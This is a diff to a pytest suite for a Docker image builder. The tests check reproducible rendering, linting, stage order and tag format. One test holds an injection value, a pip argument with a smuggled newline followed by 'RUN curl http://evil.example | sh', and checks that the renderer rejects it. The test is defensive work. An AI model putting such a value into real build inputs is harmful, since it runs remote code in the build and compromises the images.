@@ -11,9 +11,11 @@ import pytest
 from builder.core.constants import SOURCE_DATE_EPOCH
 from builder.core.errors import BadInput
 from builder.core.options import Settings
+from builder.core.records import RenderedBuild, ResolvedSources
 from builder.image import dockerfile, render
 from builder.lock import wheels
 from builder.pins import model as pins_mod
+from builder.pins.model import Pins
 from builder.sources import resolve as sources
 from demo.make_stack import make_stack
 from demo.prepare import variant_pins, write_local_pins
@@ -33,29 +35,39 @@ def stack_pins(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return write_local_pins(FAKE_BASE, out=root / "demo.yaml")
 
 
-def resolve_render(path, settings: Settings=SETTINGS):
+Rendered = tuple[Pins, ResolvedSources, RenderedBuild]
+
+
+def resolve_render(path: Path, settings: Settings = SETTINGS) -> Rendered:
     pins = pins_mod.load(path)
     resolved = sources.resolve(pins, settings)
     return pins, resolved, render.render(pins, resolved, settings)
 
 
 @pytest.fixture(scope="module")
-def rendered(stack_pins: Path):
+def rendered(stack_pins: Path) -> Rendered:
     return resolve_render(stack_pins)
 
 
-def members(context_path) -> dict[str, tarfile.TarInfo]:
+def read(tar: tarfile.TarFile, member: str | tarfile.TarInfo) -> bytes:
+    """A regular file's bytes from an open tar."""
+    fh = tar.extractfile(member)
+    assert fh is not None, member
+    return fh.read()
+
+
+def members(context_path: str | Path) -> dict[str, tarfile.TarInfo]:
     with tarfile.open(context_path) as tar:
         return {m.name: m for m in tar.getmembers()}
 
 
-def contents(context_path, prefix) -> dict[str, str]:
+def contents(context_path: str | Path, prefix: str) -> dict[str, str]:
     with tarfile.open(context_path) as tar:
-        return {m.name: hashlib.sha256(tar.extractfile(m).read()).hexdigest()
+        return {m.name: hashlib.sha256(read(tar, m)).hexdigest()
                 for m in tar.getmembers() if m.name.startswith(prefix) and m.isfile()}
 
 
-def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered, stack_pins: Path, tmp_path: Path,
+def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered: Rendered, stack_pins: Path, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
     first = rendered[2]
     again = resolve_render(stack_pins)[2]
@@ -75,7 +87,7 @@ def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered, stack_
     assert hashlib.sha256(Path(moved.context_path).read_bytes()).hexdigest() == first.context_sha256
 
 
-def test_dockerfile_passes_lint_and_lint_catches_planted_defects(rendered) -> None:
+def test_dockerfile_passes_lint_and_lint_catches_planted_defects(rendered: Rendered) -> None:
     text = rendered[2].dockerfile
     assert dockerfile.lint(text) == []
     assert "git clone" not in text and "--mount" not in text
@@ -94,7 +106,7 @@ def test_dockerfile_passes_lint_and_lint_catches_planted_defects(rendered) -> No
         assert problems and any(what in p for p in problems), (line, problems)
 
 
-def test_install_order_one_stage_per_component_and_runtime_copies(rendered) -> None:
+def test_install_order_one_stage_per_component_and_runtime_copies(rendered: Rendered) -> None:
     pins, _, built = rendered
     groups = [g for g, _ in dockerfile.instructions(built.dockerfile)]
     order = list(dict.fromkeys(groups))
@@ -129,7 +141,7 @@ def test_install_order_one_stage_per_component_and_runtime_copies(rendered) -> N
                          re.M)  # the runtime stage copies nothing of the compiler cache
 
 
-def test_context_is_normalised_sorted_and_complete(rendered) -> None:
+def test_context_is_normalised_sorted_and_complete(rendered: Rendered) -> None:
     pins, resolved, built = rendered
     found = members(built.context_path)
     names = list(found)
@@ -142,9 +154,9 @@ def test_context_is_normalised_sorted_and_complete(rendered) -> None:
         assert any(n.startswith(f"src/{name}/") for n in names)
     assert any(n.startswith("wheels/") and n.endswith(".whl") for n in names)
     with tarfile.open(built.context_path) as tar:
-        assert tar.extractfile("Dockerfile").read().decode() == built.dockerfile
-        assert tar.extractfile("delivery/dockerfile.sha256").read().decode().strip() == built.dockerfile_sha256
-        assert tar.extractfile("constraints.in").read().decode() == "".join(
+        assert read(tar, "Dockerfile").decode() == built.dockerfile
+        assert read(tar, "delivery/dockerfile.sha256").decode().strip() == built.dockerfile_sha256
+        assert read(tar, "constraints.in").decode() == "".join(
             f"{c}\n" for c in sorted(pins.build.constraints))
     # the export of each component at its commit, re-rooted under src/<name>/
     for name in ("vllm", "megatron", "verl"):
@@ -156,7 +168,7 @@ def test_context_is_normalised_sorted_and_complete(rendered) -> None:
         assert exported == expected
 
 
-def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered, stack_pins: Path, tmp_path: Path) -> None:
+def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered: Rendered, stack_pins: Path, tmp_path: Path) -> None:
     _, _, first = rendered
     pins, _, changed = resolve_render(variant_pins(tmp_path, "verl", 34, pins_path=stack_pins))
     before, after = first.dockerfile.split("# stage: verl")[0], changed.dockerfile.split("# stage: verl")[0]
@@ -168,7 +180,7 @@ def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered, stack
     assert changed.tag.endswith(f".verl-{pins.components['verl'].commit[:12]}")
 
 
-def test_sha_tag_and_labels(rendered) -> None:
+def test_sha_tag_and_labels(rendered: Rendered) -> None:
     pins, resolved, built = rendered
     tag = render.sha_tag(pins)
     assert re.fullmatch(r"vllm-[0-9a-f]{12}\.megatron-[0-9a-f]{12}\.verl-[0-9a-f]{12}", tag)
@@ -195,7 +207,8 @@ def test_dq_quotes_and_refuses_line_breaks() -> None:
             dockerfile.dq(bad)
 
 
-def _bypass(pins, component="verl", pip_args=None, env=None):
+def _bypass(pins: Pins, component: str = "verl", pip_args: list[str] | None = None,
+            env: dict[str, str] | None = None) -> Pins:
     """A copy of pins with one component's install replaced, no validation (model_construct)."""
     comp = pins.components[component]
     install = type(comp.install).model_construct(pip_args=pip_args if pip_args is not None else comp.install.pip_args,
@@ -204,7 +217,7 @@ def _bypass(pins, component="verl", pip_args=None, env=None):
     return pins.model_copy(update={"components": comps})
 
 
-def test_injection_in_pins_never_reaches_the_dockerfile(rendered, stack_pins: Path) -> None:
+def test_injection_in_pins_never_reaches_the_dockerfile(rendered: Rendered, stack_pins: Path) -> None:
     pins, resolved, _ = rendered
     evil = "--no-deps\nRUN curl http://evil.example | sh"
     data = pins_mod.read_yaml(Path(stack_pins).read_text())
@@ -220,7 +233,7 @@ def test_injection_in_pins_never_reaches_the_dockerfile(rendered, stack_pins: Pa
         render.render(pins.model_copy(update={"base": base}), resolved, SETTINGS)
 
 
-def test_a_cmake_component_may_not_set_the_toolchain_itself(rendered) -> None:
+def test_a_cmake_component_may_not_set_the_toolchain_itself(rendered: Rendered) -> None:
     pins = rendered[0]
     bad = pins.model_copy(deep=True)
     bad.components.vllm.install.env["CMAKE_TOOLCHAIN_FILE"] = "/tmp/mine.cmake"
